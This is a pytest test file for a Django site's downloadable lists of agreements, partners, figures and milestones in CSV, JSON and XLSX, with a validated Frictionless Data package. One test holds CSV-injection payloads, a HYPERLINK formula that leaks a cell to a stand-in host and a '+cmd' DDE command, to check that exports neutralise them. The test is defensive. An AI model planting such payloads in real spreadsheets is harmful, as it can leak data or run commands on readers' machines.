"""Downloads of every list (issue 15): CSV and JSON with the visitor's filters, data columns with
sources, one file per language, described by a Frictionless Data package that validates."""

import csv
import datetime
import io
import json
from decimal import Decimal

import frictionless
import pytest
from openpyxl import load_workbook

from tests.factories import FigureFactory, MilestoneFactory, OrganisationFactory, SignatoryFactory

pytestmark = pytest.mark.django_db


def rows(client, url):
    response = client.get(url)
    assert response.status_code == 200, response.content[:500]
    return list(csv.DictReader(io.StringIO(response.content.decode())))


def test_a_filtered_download_has_exactly_the_records_the_list_shows(client, places):
    for query in ["?country=china", "?country=japan&domain=music", "?year_from=2000", ""]:
        page = client.get(f"/en/agreements/{query}")
        shown = [agreement.slug for agreement in page.context["agreements"]]
        assert [row["id"] for row in rows(client, f"/en/data/agreements.csv{query}")] == shown, query
        as_json = json.loads(client.get(f"/en/data/agreements.json{query}").content)
        assert [row["id"] for row in as_json] == shown, query


def test_the_list_page_links_its_download_with_its_filters(client, places):
    content = client.get("/en/agreements/?country=japan&page=1").content.decode()
    assert "Download this agreement:" in content
    assert '<a href="/en/data/agreements.csv?country=japan" type="text/csv">CSV</a>' in content
    assert '<a href="/en/data/agreements.json?country=japan" type="application/json">JSON</a>' in content


def test_columns_are_data_with_the_source(client, places):
    bologna = OrganisationFactory(slug="municipality-of-bologna")
    SignatoryFactory(agreement=places.nagoya_agreement, organisation=bologna)
    places.nagoya_agreement.date_month = 11
    places.nagoya_agreement.note = "The source gives the month."
    places.nagoya_agreement.save()
    (row,) = rows(client, "/en/data/agreements.csv?country=japan")
    assert row["id"] == "agreement-with-nagoya"
    assert row["url"] == "http://testserver/en/agreements/agreement-with-nagoya/"
    assert (row["date"], row["date_precision"]) == ("2015-11", "month")
    assert row["partners"] == "nagoya" and row["domains"] == "music"
    assert row["signatories"] == "european:municipality-of-bologna"
    assert row["source"] and row["section"] and row["editor_note"] == "The source gives the month."
    assert row["licence"] == "Creative Commons Attribution 4.0 International (CC BY 4.0)"


def test_each_language_has_its_texts_and_the_same_identifiers(client, places):
    places.chongqing_agreement.title_it = "Accordo con Chongqing"
    places.chongqing_agreement.save()
    italian = {row["id"]: row for row in rows(client, "/it/data/agreements.csv")}
    english = {row["id"]: row for row in rows(client, "/en/data/agreements.csv")}
    assert italian.keys() == english.keys()
    assert italian["agreement-with-chongqing"]["title"] == "Accordo con Chongqing"
    assert english["agreement-with-chongqing"]["title"] == "Agreement with Chongqing"
    assert italian["agreement-with-chongqing"]["url"] == "http://testserver/it/accordi/agreement-with-chongqing/"


def test_figures_carry_value_unit_year_and_flow(client, places):
    FigureFactory(
        slug="exports-to-japan",
        value=916_000_000,
        unit="currency-not-stated",
        flow="export",
        country=places.japan,
        end_year=2015,
        qualifier="",
    )
    (row,) = [row for row in json.loads(client.get("/en/data/figures.json").content) if row["id"] == "exports-to-japan"]
    assert (row["value"], row["unit"], row["reference_year"], row["flow"], row["country"]) == (
        916000000,
        "currency-not-stated",
        2015,
        "export",
        "japan",
    )
    assert row["year_not_stated"] is False and row["qualifier"] is None


def test_milestones_take_the_timelines_filters(client, places):
    MilestoneFactory(slug="old", countries=[places.china], date_year=1990)
    MilestoneFactory(slug="new", countries=[places.china], date_year=2021)
    MilestoneFactory(slug="elsewhere", countries=[places.japan], date_year=2021)
    assert [row["id"] for row in rows(client, "/en/data/milestones.csv?country=china&year_from=2000")] == ["new"]


def test_wrong_filters_download_nothing_and_say_why(client, places):
    response = client.get("/en/data/agreements.csv?year_from=abc")
    assert response.status_code == 400
    assert "year_from: Enter a whole number." in response.content.decode()
    assert client.get("/en/data/nothing.csv").status_code == 404
    assert client.get("/en/data/agreements.xml").status_code == 404


@pytest.mark.parametrize("language", ["it", "en"])
def test_the_datapackage_describes_every_file_and_the_files_validate(client, places, tmp_path, language):
    FigureFactory(slug="share", value=14.6)
    MilestoneFactory(slug="visit", countries=[places.china], date_year=2012)
    OrganisationFactory(slug="bologna-fair")
    package = json.loads(client.get(f"/{language}/data/datapackage.json").content)
    assert package["language"] == language and package["licenses"][0]["path"].startswith("https://creativecommons")
    assert package["licenses"][0]["name"] == "CC-BY-4.0"  # an Open Definition identifier, as the standard asks
    names = {resource["name"] for resource in package["resources"]}
    assert names == {
        f"{name}-{fmt}"
        for name in ["agreements", "partners", "milestones", "organisations", "countries", "figures"]
        for fmt in ["csv", "json", "xlsx"]
    }
    for resource in package["resources"]:  # the files as served, next to the descriptor
        url = resource["path"].removeprefix("http://testserver")
        local = tmp_path / f"{resource['name']}.{resource['format']}"
        local.write_bytes(client.get(url).content)
        resource["path"] = local.name
    descriptor = tmp_path / "datapackage.json"
    descriptor.write_text(json.dumps(package))
    report = frictionless.validate(str(descriptor))
    assert report.valid, report.flatten(["resourcePath", "rowNumber", "fieldName", "type", "note"])
    # Every file's rows were read and checked, the JSON and XLSX ones too, not only their files.
    rows_read = {task.name: task.stats["rows"] for task in report.tasks}
    assert all(rows_read[f"agreements-{fmt}"] == 2 for fmt in ("csv", "json", "xlsx")), rows_read
    assert all(rows_read[f"figures-{fmt}"] == 1 for fmt in ("csv", "json", "xlsx")), rows_read


def test_a_broken_reference_between_the_lists_is_a_foreign_key_error(client, places, tmp_path):
    """The package's foreign keys are checked: a partner whose country the countries file lacks fails."""
    package = json.loads(client.get("/en/data/datapackage.json").content)
    package["resources"] = [r for r in package["resources"] if r["name"] in ("partners-csv", "countries-csv")]
    for resource in package["resources"]:
        body = client.get(resource["path"].removeprefix("http://testserver")).content
        if resource["name"] == "countries-csv":
            body = b"\r\n".join(line for line in body.split(b"\r\n") if not line.startswith(b"china,"))
        (tmp_path / f"{resource['name']}.csv").write_bytes(body)
        resource["path"] = f"{resource['name']}.csv"
    (tmp_path / "datapackage.json").write_text(json.dumps(package))
    report = frictionless.validate(str(tmp_path / "datapackage.json"))
    assert not report.valid
    assert ["foreign-key"] in report.flatten(["type"])


HOSTILE = {
    "formula": '=HYPERLINK("http://x/?leak="&A1,"clicca")',
    "command": "+cmd|' /C calc'!A0",
    "at": "@SUM(1)",
    "minus": "-1+1",
}


def test_text_a_spreadsheet_would_run_is_neutralised_in_the_csv_and_typed_as_text_in_the_xlsx(client, places):
    """OWASP's CSV-injection rule: a text cell beginning with = + - @ (or a tab or carriage return)
    starts with an apostrophe; numbers, -3.5 included, stay numbers."""
    places.chongqing_agreement.title_en = HOSTILE["formula"]
    places.chongqing_agreement.summary_en = HOSTILE["command"]
    places.chongqing_agreement.save()
    places.chongqing.name_en = HOSTILE["at"]
    places.chongqing.latitude, places.chongqing.longitude = Decimal("-3.5"), Decimal("106.55")
    places.chongqing.save()
    places.nagoya.name_en = HOSTILE["minus"]
    places.nagoya.save()
    agreement = {row["id"]: row for row in rows(client, "/en/data/agreements.csv")}["agreement-with-chongqing"]
    assert agreement["title"] == "'" + HOSTILE["formula"] and agreement["summary"] == "'" + HOSTILE["command"]
    partners = {row["id"]: row for row in rows(client, "/en/data/partners.csv")}
    assert partners["chongqing"]["name"] == "'" + HOSTILE["at"] and partners["nagoya"]["name"] == "'" + HOSTILE["minus"]
    assert partners["chongqing"]["latitude"] == "-3.5"
    workbook = load_workbook(io.BytesIO(client.get("/en/data/partners.xlsx").content))
    sheet = workbook.active
    header = [cell.value for cell in sheet[1]]
    cells = {row[header.index("id")].value: row for row in sheet.iter_rows(min_row=2)}
    name, latitude = cells["chongqing"][header.index("name")], cells["chongqing"][header.index("latitude")]
    assert (name.value, name.data_type) == (HOSTILE["at"], "s")  # shown as written, never run
    assert (latitude.value, latitude.data_type) == (-3.5, "n")
    as_json = {row["id"]: row for row in json.loads(client.get("/en/data/partners.json").content)}
    assert as_json["chongqing"]["name"] == HOSTILE["at"]  # data for programs, unchanged


def test_the_xlsx_has_typed_cells_a_frozen_header_and_every_column_of_the_csv(client, places):
    places.nagoya_agreement.entered_into_force_on = datetime.date(2016, 4, 1)
    places.nagoya_agreement.save()
    workbook = load_workbook(io.BytesIO(client.get("/it/data/agreements.xlsx").content))
    sheet = workbook.active
    assert sheet.freeze_panes == "A2"
    header = [cell.value for cell in sheet[1]]
    assert header == list(rows(client, "/it/data/agreements.csv")[0])
    row = {header[index]: cell for index, cell in enumerate(next(sheet.iter_rows(min_row=2, max_row=3)))}
    nagoya = next(r for r in sheet.iter_rows(min_row=2) if r[header.index("id")].value == "agreement-with-nagoya")
    entry = nagoya[header.index("entered_into_force")]
    assert entry.is_date and entry.value.date() == datetime.date(2016, 4, 1)
    assert row["source"].data_type == "s"


def test_every_download_is_a_file_named_for_its_list_filters_and_language(client, places):
    response = client.get("/it/data/agreements.csv?country=china&year_from=1980")
    assert response["Content-Disposition"] == 'attachment; filename="agreements-china-1980-it.csv"'
    assert client.get("/en/data/figures.xlsx")["Content-Disposition"] == 'attachment; filename="figures-en.xlsx"'
    assert client.get("/en/data/partners.json?kind=city")["Content-Disposition"] == (
        'attachment; filename="partners-city-en.json"'
    )


def test_the_csv_is_rfc_4180_utf_8_without_a_byte_order_mark(client, places):
    body = client.get("/en/data/agreements.csv").content
    assert not body.startswith(b"\xef\xbb\xbf")
    header = body.split(b"\r\n", 1)[0]  # lines end in CRLF, as RFC 4180 has them
    assert header.startswith(b"id,url,") and b"\n" not in header


def test_a_control_character_in_a_stored_text_never_reaches_a_download(client, places):
    places.chongqing_agreement.title_en = "Agreement\x0bwith\x01Chongqing"
    places.chongqing_agreement.save()
    for fmt in ("csv", "json"):
        response = client.get(f"/en/data/agreements.{fmt}")
        assert response.status_code == 200, fmt
        assert b"\x0b" not in response.content and b"\x01" not in response.content, fmt
    workbook = load_workbook(io.BytesIO(client.get("/en/data/agreements.xlsx").content))  # openpyxl refuses them
    texts = [cell.value for row in workbook.active.iter_rows() for cell in row if isinstance(cell.value, str)]
    assert "Agreement\nwithChongqing" in texts  # the vertical tab a line break, the other gone
